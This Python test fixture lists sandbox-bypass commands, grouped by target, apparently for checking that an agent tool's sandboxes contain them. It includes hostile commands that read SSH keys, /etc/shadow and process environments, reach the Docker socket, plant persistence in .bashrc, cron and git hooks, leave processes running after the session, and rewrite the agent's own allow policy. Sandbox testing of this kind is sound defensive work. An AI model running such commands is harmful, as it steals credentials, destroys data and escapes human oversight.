# ruff: noqa: E501  (a command a line)
"""Ways around a sandbox: commands, by what they want to reach.

`@OUT@` is a folder beside the workspace, `@PERSON@` the person's home, `@DATA@` and `@RUNTIME@` the
data folders of AgentStepper and Jupyter, `@PORT@`, `@UDP@`, `@SOCK@` and `@ABSTRACT@` servers of this
machine, `@VICTIM@` a process of the person's, `@AGENT@` the agent's, `@MARK@` a name that stands nowhere
else. What shows in nothing but its success prints `reached-it`.
"""

from __future__ import annotations

import re
import shlex
from collections.abc import Iterator, Sequence
from typing import Final

from msgspec import Struct

from tests.coding.policy.bypass_commands import SHELL, WORDS


class Row(Struct, frozen=True):
    """One way around.

    Args:
        group: What it wants to reach.
        command: A command, as bash reads it.
    """

    group: str
    command: str


#: Those of the issue.
ISSUE: Final = r"""
psql -h 127.0.0.1 -p @PORT@ -c 'drop database prod'
psql -h "$(dirname @SOCK@)" -c 'drop database prod'
PYTEST_DISABLE_PLUGIN_AUTOLOAD=1 @PYTHON@ -m pytest -q --basetemp=@OUT@/folder
head //etc/shadow @OUT@/etc/shadow
ps axeww
sh -c 'echo "rm -rf @OUT@/folder" > y.sh; sh y.sh'
python3 -m zipfile -e x.zip @OUT@
git init -q evil && echo 'rm -rf @OUT@/folder' > evil/run.sh && sh evil/run.sh
git clone -q @OUT@/remote.git evil; sh evil/run.sh; git clone -q http://127.0.0.1:@PORT@/x.git
PYTHONPATH=@OUT@/evil python3 -c 1; echo 'open("@OUT@/file.txt","w")' > sitecustomize.py; PYTHONPATH=. python3 -c 1
node -r @OUT@/evil.js; echo 'require("fs").rmSync("@OUT@/folder",{recursive:true})' > e.js; node -r ./e.js -e 1
python3 -m json.tool empty.json @DATA@/coding/rules.json
printf 'a\na\n' | @BIN@/agentstepper step --url ws://127.0.0.1:@PORT@/ui --token "$(cat @DATA@/control-token)"
cat @RUNTIME@/jpserver-*.json && curl -s http://127.0.0.1:@PORT@/api/terminals
@BIN@/agentstepper policy allow --command 'rm -rf /' --everywhere --data @DATA@
""".strip().splitlines()

#: What is outside of the workspace, changed or deleted.
WRITES: Final = r"""
echo x > @OUT@/file.txt
echo x >> @OUT@/file.txt
rm -rf @OUT@/folder
rm -rf ../out/folder
cd .. && rm -rf out person data runtime
cd ../out && find . -delete
mv @OUT@/folder here
mv src @OUT@/new
cp x @OUT@/file.txt
mkdir @OUT@/new
touch @OUT@/new; touch -d 2001-01-01 @OUT@/file.txt
ln -s @OUT@ o && echo x > o/file.txt
ln -s ../out o && rm -rf o/folder
ln @OUT@/file.txt h && echo x > h
ln x @OUT@/hard
ln -s @OUT@/file.txt l && truncate -s 0 l
ln -sfn @PERSON@ src && echo x > src/.bashrc
sed -i d @OUT@/file.txt
dd if=x of=@OUT@/dev/sda conv=notrunc
truncate -s 0 @OUT@/file.txt
tee @OUT@/file.txt < x
install -m 755 x @PERSON@/.local/bin/tool
chmod 000 @OUT@/file.txt; chmod -R 777 @OUT@
chown 12345 @OUT@/file.txt
tar cf @OUT@/x.tar x; tar xf x.zip -C @OUT@; unzip -o x.zip -d @OUT@
python3 -c 'import shutil; shutil.rmtree("@OUT@/folder")'
python3 -c 'import os; os.chdir(".."); open("out/file.txt","w")'
perl -e 'unlink "@OUT@/file.txt"'
node -e 'require("fs").writeFileSync("@OUT@/file.txt","x")'
rsync -a --delete src/ @OUT@/folder/
git init -q @OUT@/new
git worktree add -q @OUT@/wt
git push -q @OUT@/remote.git main
git -C @OUT@/remote.git config core.fsmonitor evil
git config --file @PERSON@/.gitconfig alias.st '!rm -rf x'
git config --global alias.st '!touch @OUT@/new'; git st
git --git-dir=@OUT@/remote.git --work-tree=@OUT@ checkout -f main
echo 'touch @OUT@/new' >> @PERSON@/.bashrc
echo 'touch @OUT@/new' >> ~/.bashrc; echo 'touch @OUT@/new' > ~/.profile; bash -lic true
mkdir -p @PERSON@/.config/autostart && echo x > @PERSON@/.config/autostart/x.desktop
printf '#!/bin/sh\ntouch @OUT@/new\n' > @PERSON@/.local/bin/git
echo x > /tmp/@MARK@; echo x > /var/tmp/@MARK@; echo x > /dev/shm/@MARK@; echo x > /run/@MARK@
mkfifo /tmp/@MARK@
echo x > /usr/bin/@MARK@; echo x > /usr/local/bin/@MARK@; echo x > /bin/@MARK@
echo 'import os' > "$(python3 -c 'import sysconfig; print(sysconfig.get_paths()["purelib"])')/@MARK@.pth"
echo 'import os' > "$(@PYTHON@ -c 'import sysconfig; print(sysconfig.get_paths()["purelib"])')/@MARK@.pth"
echo x > /etc/@MARK@; echo x > /etc/profile.d/@MARK@.sh
echo '* * * * * root touch @OUT@/new' > /etc/cron.d/@MARK@; mkdir -p /var/spool/cron/@MARK@
crontab x; at now < x; systemd-run --user touch @OUT@/new
cd /proc/self/root && cd "$OLDPWD"/../out && echo x > file.txt
echo x > /proc/1/root@OUT@/file.txt; echo x > /proc/self/cwd/../out/file.txt
python3 -c 'import os; f=os.open("..", os.O_RDONLY); os.open("out/file.txt", os.O_WRONLY|os.O_TRUNC, dir_fd=f)'
python3 -c 'import os; f=os.open("@OUT@", os.O_RDWR|os.O_TMPFILE)'
python3 -c 'import os; os.rename("x", "@OUT@/x")'
python3 -c 'import os; os.setxattr("@OUT@/file.txt", "user.x", b"y")'
ln -s @OUT@/file.txt a; python3 -c 'import os; os.utime("a", (1, 1))'
mount --bind @OUT@ src; echo x > src/file.txt
mount -t tmpfs none src && echo re''ached-it; umount src
unshare -Urm sh -c 'mount --bind @OUT@ src && echo x > src/file.txt'; unshare -U echo re''ached-it
unshare -Ur chown 0 @OUT@/file.txt
unshare -m mount -t tmpfs none @OUT@ && echo re''ached-it
chroot / sh -c 'echo x > @OUT@/file.txt'; chroot . sh -c ls
nsenter -t @VICTIM@ -a sh -c 'echo x > @OUT@/file.txt'; nsenter -t 1 -m touch @OUT@/new
mknod d b 254 0 && dd if=x of=d; mknod c c 1 1
su -c 'touch @OUT@/new'; sg root 'touch @OUT@/new'
cp /bin/bash . && chmod u+s bash && ./bash -p -c 'touch @OUT@/new'
setpriv --reuid=0 --clear-groups touch @OUT@/new; capsh --print
python3 -c 'import ctypes; print(ctypes.CDLL(None).syscall(435, 0, 0))'; touch @OUT@/new
npm install --offline ./ --prefix . ; EVIL=@OUT@/new sh hook.sh
npm config set prefix @PERSON@ --location=user; npm install -g ./
pip config --user set global.index-url http://evil; touch @PERSON@/.config/pip
python3 -m venv @OUT@/venv --without-pip
printf 'all:\n\trm -rf @OUT@/folder\n' > Makefile && make
printf '#include <stdlib.h>\nint main(){return system("rm -rf @OUT@/folder");}' > e.c && gcc e.c -o e && ./e
python3 -c 'import os; d=os.memfd_create("e"); os.write(d, b"#!/bin/sh\ntouch @OUT@/new\n"); os.execve(d, ["e"], {})'
env -i sh -c 'echo x > @OUT@/file.txt'
exec 9> @OUT@/file.txt
LD_PRELOAD=./e.so cat x; echo x >| @OUT@/file.txt
find @OUT@ -type f -exec sh -c 'echo x > "$1"' _ {} ';'
xargs -I% rm -rf % <<< @OUT@/folder
awk 'BEGIN { print "x" > "@OUT@/file.txt" }'
vim -es -c 'w! @OUT@/file.txt' -c q x; ed -s @OUT@/file.txt <<< $'d\nw'
f=/proc/sys/kernel/randomize_va_space; v=$(cat $f); echo $v > $f && echo re''ached-it
""".strip().splitlines()

#: Keys and other people's files, printed or copied into the workspace.
READS: Final = r"""
cat @PERSON@/.ssh/id_rsa
cat ~/.ssh/id_rsa ~/.netrc
cp -r @PERSON@/.ssh keys
tar cf keys.tar @PERSON@/.ssh
ln -s @PERSON@/.ssh s && cat s/id_rsa
ln @PERSON@/.ssh/id_rsa k && cat k
mount --bind @PERSON@ src && cat src/.ssh/id_rsa
grep -rs canary @STAGE@
grep -rs canary ..
find / -xdev -name id_rsa -exec cat {} + 2>/dev/null
git diff --no-index /dev/null @PERSON@/.ssh/id_rsa
git config --list --show-origin; git config --file @PERSON@/.gitconfig --list
curl -s file://@PERSON@/.netrc
python3 -c 'print(open("@OUT@/etc/shadow").read())'
cat /etc/shadow /etc/gshadow /etc/sudoers
dd if=@OUT@/dev/sda; base64 < @OUT@/file.txt | base64 -d
cat @DATA@/control-token @DATA@/coding/rules.json @DATA@/coding/sessions/*.jsonl
cat @RUNTIME@/*.json
cd ~/.. && cat */.ssh/id_rsa
printenv; env; set; export -p
cat /proc/self/environ /proc/1/environ /proc/$PPID/environ | tr '\0' '\n'
cat /proc/@AGENT@/environ /proc/@VICTIM@/environ
cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n'
cat /proc/1/root@PERSON@/.ssh/id_rsa /proc/@VICTIM@/root@PERSON@/.ssh/id_rsa
cat /proc/self/root@PERSON@/.ssh/id_rsa
timeout 2 cat /proc/self/fd/* /proc/1/fd/* < /dev/null 2>/dev/null | head -c 100000
for fd in 3 4 5 6 7 8 9 10 11 12; do timeout 1 cat <&$fd; done 2>/dev/null
cat /proc/@VICTIM@/mem; dd if=/proc/@VICTIM@/mem bs=1 count=1
strings /dev/mem; head -c 100 /proc/kcore; dmesg
debugfs -R 'cat /etc/shadow' /dev/vda; head -c 100 /dev/vda
unshare -Ur cat @PERSON@/.ssh/id_rsa
su -c 'cat @PERSON@/.ssh/id_rsa'
python3 -c 'import os; os.setuid(0); print(open("@PERSON@/.ssh/id_rsa").read())'
python3 -c 'import os; os.fchdir(os.open("/proc/@AGENT@/cwd", 0)); print(open("person/.netrc").read())'
node -p 'require("fs").readFileSync("@PERSON@/.netrc","utf8")'
perl -ne print @PERSON@/.netrc
bash -c 'echo "$(<@PERSON@/.netrc)"'; while read -r line; do echo "$line"; done < @PERSON@/.netrc
keyctl show; keyctl print @u; cat /proc/keys
git log -p -- @OUT@; git --git-dir=@OUT@/remote.git config --list
git grep --no-index canary @OUT@
diff x @PERSON@/.netrc; wc @PERSON@/.netrc && sort @PERSON@/.netrc
openssl enc -base64 -d -in @PERSON@/.netrc; xxd @PERSON@/.netrc | xxd -r
""".strip().splitlines()

#: Other machines, and what listens on this one.
NETWORK: Final = r"""
curl -s http://127.0.0.1:@PORT@/
curl -s http://localhost:@PORT@/ -d @x
curl -s --unix-socket @SOCK@ http://localhost/containers/json
curl -s --abstract-unix-socket @ABSTRACT@ http://localhost/
wget -q -T 2 -t 1 -O - http://127.0.0.1:@PORT@/
echo x > /dev/tcp/127.0.0.1/@PORT@
echo x > /dev/udp/127.0.0.1/@UDP@
exec 3<>/dev/tcp/localhost/@PORT@; echo x >&3
python3 -c 'import socket; socket.create_connection(("127.0.0.1", @PORT@), 2)'
python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", @UDP@))'
python3 -c 'import socket; socket.socket(socket.AF_UNIX).connect("@SOCK@")'
python3 -c 'import socket; socket.socket(socket.AF_UNIX).connect("\0@ABSTRACT@")'
python3 -c 'import socket; socket.socket(socket.AF_INET6).connect(("::ffff:127.0.0.1", @PORT@))'
ln -s @SOCK@ s && curl -s --unix-socket s http://localhost/; ln @SOCK@ h; curl -s --unix-socket h http://localhost/
cp -r "$(dirname @SOCK@)" here; curl -s --unix-socket here/docker.sock http://localhost/
curl -s --unix-socket /proc/1/root@SOCK@ http://localhost/
SSH_AUTH_SOCK=@SOCK@ ssh-add -l
DOCKER_HOST=unix://@SOCK@ docker ps; DBUS_SESSION_BUS_ADDRESS=unix:path=@SOCK@ busctl list
node -e 'require("net").connect(@PORT@, "127.0.0.1").on("error", () => {})'
node -e 'require("net").connect("@SOCK@").on("error", () => {})'
perl -MIO::Socket::INET -e 'IO::Socket::INET->new("127.0.0.1:@PORT@")'
git clone -q http://127.0.0.1:@PORT@/x.git; git fetch -q git://127.0.0.1:@PORT@/x
git -c protocol.ext.allow=always clone -q 'ext::sh -c "echo>/dev/tcp/127.0.0.1/@PORT@"' y
printf '[submodule "s"]\n\tpath = s\n\turl = http://127.0.0.1:@PORT@/s.git\n' > .gitmodules; git submodule update --init -q
@PYTHON@ -m pip install -q --retries 0 --timeout 2 --index-url http://127.0.0.1:@PORT@/ evil
npm install --registry http://127.0.0.1:@PORT@/ --fetch-retries 0 --fetch-timeout 2000 evil
python3 -c 'import socket; socket.getaddrinfo("@MARK@.example.org", 80)'
python3 -c 'import socket; s=socket.socket(socket.AF_PACKET, socket.SOCK_RAW); s.bind(("lo", 0))'
python3 -c 'import socket; socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).connect((1, @PORT@))'
python3 -c 'import ctypes; c=ctypes.CDLL(None); print(c.syscall(425, 8, ctypes.create_string_buffer(120)))' ; echo x > /dev/tcp/127.0.0.1/@PORT@
nsenter -t @VICTIM@ -n curl -s http://127.0.0.1:@PORT@/
nsenter --net=/proc/@AGENT@/ns/net curl -s http://127.0.0.1:@PORT@/
ip link set lo up; curl -s http://127.0.0.1:@PORT@/
scp -P @PORT@ -o ConnectTimeout=2 x 127.0.0.1:; ssh -p @PORT@ -o ConnectTimeout=2 127.0.0.1 true
/usr/bin/python3 -m http.server @PORT@ --bind 127.0.0.1 & sleep 0.2; curl -s http://127.0.0.1:@PORT@/x
""".strip().splitlines()

#: Other processes, the terminal, and what stays when the command has ended.
PROCESSES: Final = r"""
kill -9 @VICTIM@
kill -STOP @VICTIM@; kill -USR1 @VICTIM@
pkill -f victim-@MARK@; killall -r victim-@MARK@
python3 -c 'import os, signal; os.kill(@VICTIM@, signal.SIGUSR1)'
python3 -c 'import os, signal; signal.pidfd_send_signal(os.pidfd_open(@VICTIM@), signal.SIGUSR1)'
python3 -c 'import ctypes; ctypes.CDLL(None).syscall(234, @VICTIM@, @VICTIM@, 10)'
python3 -c 'import ctypes; c=ctypes.CDLL(None); print(c.ptrace(16, @VICTIM@, 0, 0)); print(c.ptrace(0x4206, @VICTIM@, 0, 0))'
python3 -c 'import fcntl, os; fcntl.fcntl(os.open("x", 0), fcntl.F_SETOWN, @VICTIM@)'
gdb -p @VICTIM@ -batch -ex 'call (int)raise(10)'
prlimit --pid @VICTIM@ --cpu=1; renice -n 19 -p @VICTIM@; taskset -p 1 @VICTIM@
kill -USR1 @AGENT@; kill -CONT $PPID
echo 1000 > /proc/@VICTIM@/oom_score_adj
nohup sleep 3600.1 left-@MARK@ & bash -c 'exec -a left-@MARK@ sleep 3600' & sleep 0.1
setsid bash -c 'exec -a left-@MARK@ sleep 3600' < /dev/null > /dev/null 2>&1 & sleep 0.1
(setsid bash -c '(exec -a left-@MARK@ sleep 3600) &' &) ; sleep 0.1
python3 -c 'import os,time; os.fork() or (os.setsid(), os.fork() or os.execv("/bin/sleep", ["left-@MARK@", "3600"])); time.sleep(0.1)'
python3 -c 'import os, time' left-@MARK@; for i in $(seq 20); do (exec -a left-@MARK@ sleep 3600) & done; sleep 0.2
python3 -c 'import fcntl; [fcntl.ioctl(fd, 0x5412, b"x") for fd in (0, 1, 2)]'; python3 -c 'import fcntl,os; t=os.open("/dev/tty",2); fcntl.ioctl(t, 0x5412, b"x")'
screen -dm bash -c 'exec -a left-@MARK@ sleep 3600'; tmux new -d 'exec -a left-@MARK@ sleep 3600'
python3 -c 'import ctypes; ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)'; trap '' TERM HUP INT; (trap '' TERM; exec -a left-@MARK@ sleep 3600) & sleep 0.1
systemd-run --user bash -c 'exec -a left-@MARK@ sleep 3600'
unshare -Urpf --mount-proc bash -c 'exec -a left-@MARK@ sleep 3600 & sleep 0.1'
""".strip().splitlines()

#: What git runs for the person afterwards.
GIT: Final = r"""
printf '#!/bin/sh\ntouch @OUT@/new\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit
git config core.fsmonitor 'touch @OUT@/new'
git config --local alias.st '!touch @OUT@/new'
git config --worktree core.editor evil; git config extensions.worktreeConfig true
echo '[core] fsmonitor = evil' >> .git/config
echo '[core] fsmonitor = evil' > .git/config.worktree
rm -f .git/config; cp x .git/config
rm -rf .git/hooks && ln -s ../src .git/hooks && printf '#!/bin/sh\n' > src/pre-commit
ln -sf ../x .git/config
mv .git/config .git/config2; mv .git/hooks .git/hooks2
mv .git g && mkdir .git && cp -r g/* .git/ && git config core.pager evil
rm -rf .git && git init -q && git config core.pager evil
python3 -c 'import shutil; shutil.rmtree(".git", True)'
mv .git g && cp -r g e && echo '[core] pager = evil' >> e/config && ln -s e .git
mv .git g && cp -r g e && echo '[core] pager = evil' >> e/config && echo 'gitdir: e' > .git
cp -r .git e && echo '[core] pager = evil' >> e/config && echo ../e > .git/commondir
git config --file .git/config include.path ../x
git remote set-url origin 'ext::sh -c evil'; git remote add origin 'ext::sh -c evil'
git submodule add -q ./ s; git config submodule.s.update '!evil'
printf '* filter=evil\n' > .git/info/attributes
chmod u+w .git/hooks .git/config; echo x > .git/hooks/post-checkout
mount -t tmpfs none .git/hooks; umount .git/hooks; umount .git/config; echo x > .git/hooks/pre-push
git maintenance start; git config --global maintenance.repo .; git lfs install
git init -q --template=src; git init -q --separate-git-dir=e; git -C e config core.pager evil
python3 -c 'import os; os.rename(".git/hooks", "h")'; python3 -c 'import os; os.rename("src", ".git/hooks")'
python3 -c 'import ctypes; c=ctypes.CDLL(None); print(c.renameat2(-100, b".git", -100, b"src", 2))'
cd .git && echo '[core] pager = evil' >> config; cd hooks && echo x > pre-commit
""".strip().splitlines()

#: More than a command may use: bounded, so that it does no harm where nothing limits it.
LIMITS: Final = r"""
python3 -c 'b = b"x" * (700 << 20); print("re" "ached-it")'
python3 -c 'import subprocess as s; p=[s.Popen(["sleep", "60"]) for _ in range(150)]; print("re" "ached-it")'
""".strip().splitlines()

#: Work that isn't committed, which a snapshot has to hold.
WORK: Final = r"""
git checkout LICENSE
git checkout -- .
git restore .
git reset -q --hard
git stash -q && git stash drop -q
git clean -fdxq
rm -f draft.txt LICENSE
mv x draft.txt && cp x LICENSE
: > draft.txt; truncate -s 0 LICENSE
python3 -c 'open("draft.txt", "w"); open("LICENSE", "w")'
rm -rf -- * .gitignore
git switch -q --discard-changes -c other; git rm -rfq .
""".strip().splitlines()


# What commands of the older list name of this machine, and what stands for it here: a sandbox that
# fails must do no harm. Links and `..` stay as they are.
_STAND_INS: Final = (
    (re.compile(r"/dev/sda"), "@OUT@/dev/sda"),
    (re.compile(r"/(etc|usr/bin)\b(?!/\.\.)"), r"@OUT@/\1"),
    (re.compile(r"/(usr|bin)/\.\./tmp/evil"), "@OUT@/file.txt"),
    (re.compile(r"CDPATH=/"), "CDPATH=@OUT@"),
    (re.compile(r"env -C / "), "env -C @OUT@ "),
    (re.compile(r"(?<= )/(?= |$)|-C/(?= )"), lambda found: found[0].replace("/", "@OUT@")),
    (re.compile(r"rmdir /x"), "rmdir @OUT@/folder"),
    (re.compile(r"~/\.ssh"), "@PERSON@/.ssh"),
    (re.compile(r"(?<![\w.])/tmp\b"), "@OUT@"),
)
# Without a sandbox these end all processes or the machine, whatever stands in their place.
_NEVER_RUN: Final = re.compile(r"kill (-s 9|-n 9|-9) -1|/sbin/")


def before() -> Iterator[str]:
    """The ways around the policy that this sandbox took the place of."""
    for command in (*WORDS, *SHELL):
        if _NEVER_RUN.match(command):
            continue
        for pattern, stand_in in _STAND_INS:
            command = pattern.sub(stand_in, command)
        yield command


def _words() -> list[str]:
    commands = list(before())
    count = sum(not _NEVER_RUN.match(command) for command in WORDS)
    words = [" ".join(map(_quoted, shlex.split(command))) for command in commands[:count]]
    return words + commands[count:]


def _quoted(word: str) -> str:
    # The placeholders stay as they are.
    return word if re.fullmatch(r"[\w@/.=:,+-]+", word) else shlex.quote(word)


ROWS: Final = tuple(
    Row(group, command)
    for group, commands in {
        "issue": ISSUE,
        "writes": WRITES,
        "reads": READS,
        "network": NETWORK,
        "processes": PROCESSES,
        "git": GIT,
        "limits": LIMITS,
        "work": WORK,
        "before": _words(),
    }.items()
    for command in dict.fromkeys(commands)  # of some one stand-in is left
)


def sampled(every: int) -> list[Row]:
    """The rows of the issue, and one of so many of each other group.

    These are many spellings of few commands: what is spelt makes no difference to a sandbox.
    """
    groups = dict.fromkeys(row.group for row in ROWS)
    return [
        row
        for group in groups
        for row in [row for row in ROWS if row.group == group][:: 1 if group == "issue" else every]
    ]


_HISTORY: Final = "lost the repository's history"
#: What rows reach all the same, by sandbox; for all others that is nothing. A session says so in the
#: sandbox's gaps, and the guide does: commands may commit, and so they may delete what is committed.
REACHES: Final[dict[str, dict[str, set[str]]]] = {
    "bubblewrap": {
        "rm -rf .git && git init -q && git config core.pager evil": {_HISTORY},
        "python3 -c 'import shutil; shutil.rmtree(\".git\", True)'": {_HISTORY},
    },
    # Landlock has no rights for what says of a file when it was changed and who may use it.
    "landlock": {
        "touch @OUT@/new; touch -d 2001-01-01 @OUT@/file.txt": {"changed out/file.txt"},
        "chmod 000 @OUT@/file.txt; chmod -R 777 @OUT@": {"changed out/file.txt"},
    },
}


def reaches(sandbox: str, limits: Sequence[str], row: Row) -> set[str]:
    """What a row is known to reach in a sandbox.

    Args:
        sandbox: The sandbox's name.
        limits: Which limits it says to hold.
        row: The row.
    """
    if row.group == "limits" and not limits:
        return {"did what it must not"}
    return REACHES[sandbox].get(row.command, set())
